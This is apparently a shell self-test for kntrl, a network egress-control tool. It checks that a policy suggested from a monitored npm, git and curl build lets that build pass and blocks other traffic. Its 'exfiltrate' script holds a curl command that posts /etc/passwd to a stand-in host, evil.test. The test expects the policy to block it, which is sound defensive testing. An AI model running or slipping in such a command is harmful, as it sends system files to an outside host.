#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
#
# kntrl report --suggest: the policy that comes of a monitored run, of npm, git and
# curl, lets the same run pass in mode trace, by the names it asked for, and nothing
# else.
. selftests/vm/lib.sh

kntrl=$(program kntrl)
A=203.0.113.1 S=192.0.2.53
defer unload
chmod 755 "$T"

# ---- The other host: a name server, a registry, a repository ----

another_host() {
	remote far 192.0.2.1/24 $S/24 &&
		ip -n far route add local 198.18.0.0/15 dev lo &&
		ip route add 198.18.0.0/15 via $S
}
ok 'another host' another_host
background ip netns exec far dnsmasq --keep-in-foreground --no-resolv --no-hosts --user=root --pid-file= \
	--listen-address=$S --bind-interfaces --local=/test/ --address=/registry.test/198.18.0.10 \
	--address=/git.test/198.18.0.11 --address=/files.test/198.18.0.12 --address=/evil.test/198.18.0.66
mkdir -p "$T/www/git.test" "$T/www/registry.test" "$T/package" "$T/project" "$T/home"
export HOME="$T/home"
git init -q -b main "$T/source"
git -C "$T/source" -c user.name=a -c user.email=a@example.com commit -q --allow-empty -m first
git clone -q --bare "$T/source" "$T/www/git.test/repo.git"
git -C "$T/www/git.test/repo.git" update-server-info
echo '{"name": "left", "version": "1.0.0"}' >"$T/package/package.json"
tar -C "$T" -czf "$T/www/registry.test/left.tgz" package
python3 - "$T" <<'PYTHON'
import base64, hashlib, json, sys
digest = hashlib.sha512(open(f"{sys.argv[1]}/www/registry.test/left.tgz", "rb").read()).digest()
project = {"name": "project", "version": "1.0.0", "dependencies": {"left": "1.0.0"}}
left = {"version": "1.0.0", "resolved": "http://registry.test/left.tgz",
        "integrity": "sha512-" + base64.b64encode(digest).decode()}
json.dump(project, open(f"{sys.argv[1]}/project/package.json", "w"))
json.dump({"name": "project", "version": "1.0.0", "lockfileVersion": 3, "requires": True,
           "packages": {"": project, "node_modules/left": left}},
          open(f"{sys.argv[1]}/project/package-lock.json", "w"))
PYTHON
cat >"$T/web.py" <<'PYTHON'
import http.server, os, sys

class Handler(http.server.SimpleHTTPRequestHandler):
    def translate_path(self, path):
        return f"{sys.argv[1]}/www/{self.headers['Host']}{path.split('?')[0]}"

server = http.server.ThreadingHTTPServer(("0.0.0.0", 80), Handler)
print("ready", flush=True)
server.serve_forever()
PYTHON
mkdir "$T/www/files.test" "$T/www/evil.test"
background ip netns exec far python3 "$T/web.py" "$T"
# shellcheck disable=SC2154 # of lib.sh
ok 'a web server' wait_for 20 grep -q ready "$T/background.$jobs_started"
echo "nameserver $S" >/etc/resolv.conf
ok 'a name server' wait_for 10 getent ahostsv4 git.test

# job: what the build does; exfiltrate: what it did not do then.
cat >"$T/job" <<BASH
#!/bin/bash
exec 3<>/dev/tcp/$A/443 4<>/dev/udp/10.1.2.3/9 || exit
rm -rf "$T/clone" "$T/cache" "$T/project/node_modules"
git clone -q http://git.test/repo.git "$T/clone" || exit
[ "\$1" = short ] || npm ci --prefix "$T/project" --cache "$T/cache" --no-audit --no-fund --no-update-notifier \\
	--fetch-retries 0 --registry http://registry.test/ || exit
[ "\$1" = short ] || test -e "$T/project/node_modules/left/package.json" || exit
curl -sf -m 10 -o /dev/null http://files.test/
BASH
cat >"$T/exfiltrate" <<'BASH'
#!/bin/bash
curl -sf -m 10 -o /dev/null --data-binary @/etc/passwd http://evil.test/
[ $? != 7 ]	# no connection
BASH
chmod 755 "$T/job" "$T/exfiltrate"
ok 'an address' addr_add $A
ok 'a route for what is sent nowhere' ip route add 10.0.0.0/8 dev lo
defer 'ip route del 10.0.0.0/8 dev lo'
ok 'a listener' listen tcp:$A:443
printf 'version: "1"\nmode: monitor\n' >"$T/monitor.yaml"
ok 'a monitored run' load "$T/monitor.yaml"
ok 'the job' "$T/job"
"$kntrl" report --suggest >"$T/all.yaml"
"$kntrl" report --suggest --profiles >"$T/profiles.yaml"
is "$(grep '^ *- ' "$T/all.yaml" | tr -d ' \n')" \
	"-\"$S\"-\"files.test:80\"-\"git.test:80\"-\"registry.test:80\"-\"10.1.2.3:9\"-\"$A:443\"" \
	'hosts by name, other addresses, and the name server'
like "$(cat "$T/all.yaml")" '^      # git-remote-http: ' 'with what needed each'
ok 'while nothing is denied, the other step goes through' "$T/exfiltrate"
ok 'nothing is left' unload

ok 'the suggested policy' load "$T/all.yaml"
ok 'lets the same job pass, but for npm' "$T/job" short
not_ok 'and not another step' "$T/exfiltrate"
is "$("$kntrl" report --format json | grep '"block"' | grep -v -c '198\.18\.0\.66')" 0 'which alone was blocked'

ok 'the one with profiles' load "$T/profiles.yaml"
ok 'lets the same job pass' "$T/job"
not_ok 'but not another program to where it went' bash -c 'exec 3<>/dev/tcp/files.test/80'
not_ok 'nor another step' "$T/exfiltrate"
done_testing
